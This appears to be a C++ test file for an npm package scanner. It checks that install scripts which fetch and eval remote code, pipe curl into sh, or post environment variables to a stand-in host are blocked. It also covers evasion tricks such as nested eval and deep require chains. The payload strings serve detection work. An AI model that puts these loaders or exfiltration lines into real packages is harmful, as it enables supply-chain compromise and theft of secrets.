// What code at installation starts by commands, texts and names that are put together is followed as if it stood there.
#include <gtest/gtest.h>

#include "inspect/testing.h"

namespace cordon::inspect {
namespace {

using testing::installing;
using testing::Package;
using testing::tier_of;

const std::string kHead =
    "const fs = require('fs'), cp = require('child_process'), path = require('path'), vm = require('vm');\n";
const std::string kPayload = "fetch('https://f.invalid/p').then((r) => r.text()).then(eval);";

Package started_by(const std::string& code) {
  Package out(
      R"({"name": "p", "version": "1.0.0", "scripts": {"postinstall": "node setup.js", "more": "node payload.js"}})");
  out.add("setup.js", kHead + code);
  return out;
}

Tier judged(const Package& package) { return tier_of(conclude(package.peek()), "inspect.download-and-run"); }

TEST(CodeStarts, FilesOfThePackage) {
  for (const char* code :
       {"cp.execSync('node payload.js');", "cp.execSync(`node ${__dirname}/payload.js`);", "cp.exec('npm run more');",
        "cp.spawn('npm', ['run', 'more']);", "cp.spawn(process.execPath, ['lib/p.dat']);", "cp.fork('./payload');",
        "cp.spawn('sh', ['-c', 'cd lib && node p.dat']);", "require(path.join(__dirname, 'payload'));",
        "require(__dirname + '/payload');", "const n = './payload'; require(n);",
        "require('module').createRequire(__filename)('./payload');", "eval(fs.readFileSync('lib/p.dat', 'utf8'));",
        "eval(fs.readFileSync(path.join(__dirname, 'lib/p.dat'), 'utf8'));"}) {
    EXPECT_EQ(judged(started_by(code).add("payload.js", kPayload).add("lib/p.dat", kPayload)), Tier::block) << code;
    EXPECT_EQ(judged(started_by(code).add("payload.js", "1;").add("lib/p.dat", "1;")), Tier::inform) << code;
  }
}

TEST(CodeStarts, CodeInTexts) {
  for (const char* form : {"eval(\"$\");", "new Function(\"$\")();", "new Function('a', \"$\")(1);",
                           "cp.spawn('node', ['-e', \"$\"]);", "vm.runInThisContext(\"$\");",
                           "eval(\"eval(\\\"$\\\")\");", "cp.spawnSync(process.execPath, ['--eval', \"$\"]);"}) {
    const auto with = [&](const std::string& payload) {
      std::string code = form;
      code.replace(code.find('$'), 1, payload);
      return judged(started_by(code));
    };
    EXPECT_EQ(with("const f = fetch; f('https://f.invalid/p').then(r => r.text()).then(eval)"), Tier::block) << form;
    EXPECT_EQ(with("const f = 1; f + 1"), Tier::inform) << form;
  }
}

TEST(CodeStarts, WordsOfAListAreWordsOfACommand) {
  EXPECT_EQ(judged(started_by("cp.spawn('sh', ['-c', 'curl https://f.invalid/x | sh']);")), Tier::block);
  EXPECT_EQ(judged(started_by("cp.spawn('echo', ['; curl https://f.invalid/x | sh']);")), Tier::inform);
}

TEST(CodeStarts, WhatNobodyEvaluatesIsNoCode) {
  Package package = started_by("console.log(eval(fs.readFileSync('notes.md', 'utf8')));");
  package.add("notes.md", kPayload);
  EXPECT_EQ(package.peek().install_files.size(), 1u);
}

TEST(CodeStarts, CircleAndEnd) {
  Package package = started_by("cp.execSync('node payload.js'); eval(\"require('./payload')\");");
  package.add("payload.js", kHead + "cp.execSync('node setup.js'); eval(\"require('./setup')\");");
  EXPECT_EQ(package.peek().install_files.size(), 2u);
}

TEST(CodeStarts, TheMainOfThePackageIsItself) {
  Package package(R"({"name": "p", "version": "1.0.0", "main": "lib/m.js", "scripts": {"postinstall": "node ."}})");
  package.add("index.js", "1;").add("lib/m.js", kPayload);
  EXPECT_EQ(judged(package), Tier::block);
}

// A flood of empty files makes nothing far that runs what it fetched, nor what the release before did not do.
TEST(CodeStarts, ManyFilesHideNothingNew) {
  const auto deep = [](const std::string& payload) {
    std::string loads = "require('./a');";
    Package out(R"({"name": "p", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}})");
    for (int i = 0; i < 40; ++i) {
      out.add("e" + std::to_string(i) + ".js", "");
      loads += "require('./e" + std::to_string(i) + "');";
    }
    return out.add("setup.js", loads).add("a.js", "require('./b')").add("b.js", "require('./c')").add("c.js", payload);
  };
  EXPECT_EQ(judged(deep(kPayload)), Tier::block);
  const Package sends = deep("fetch('https://f.invalid/p', { method: 'POST', body: JSON.stringify(process.env) });");
  EXPECT_EQ(tier_of(conclude(sends.peek()), "inspect.sends-secrets"), Tier::inform);
  const PreviousRelease before = previous_of(deep("1;").peek()), same = previous_of(sends.peek());
  ReleaseContext context;
  context.previous = &before;
  EXPECT_EQ(tier_of(conclude(sends.peek(), context), "inspect.sends-secrets"), Tier::block);
  context.previous = &same;
  EXPECT_EQ(tier_of(conclude(sends.peek(), context), "inspect.sends-secrets"), Tier::inform);
}

TEST(CodeStarts, ManyNamesOfOneTableAreLookedUpOnce) {
  std::string imports, code;
  for (int i = 0; i < 20'000; ++i) {
    imports += (i == 0 ? "\"#a" : ",\"#a") + std::to_string(i) + "\": \"./x" + std::to_string(i) + ".js\"";
    code += "require(\"#a\");";
  }
  Package package(R"({"name": "p", "version": "1.0.0", "imports": {)" + imports +
                  R"(}, "scripts": {"postinstall": "node setup.js"}})");
  const Peek peek = package.add("setup.js", code).add("x7.js", "").peek();
  EXPECT_EQ(peek.install_files.size(), 2u);
  EXPECT_FALSE(std::ranges::any_of(peek.not_inspected, is_unread_install_code));
}

TEST(CodeStarts, AnIndexOfManyModulesIsReadWhole) {
  std::string code;
  for (int i = 0; i < 3'000; ++i)
    code += "exports.I" + std::to_string(i) + " = require('./i" + std::to_string(i) + "');\n";
  EXPECT_FALSE(std::ranges::any_of(installing(code).peek().not_inspected, is_unread_install_code));
}

}  // namespace
}  // namespace cordon::inspect
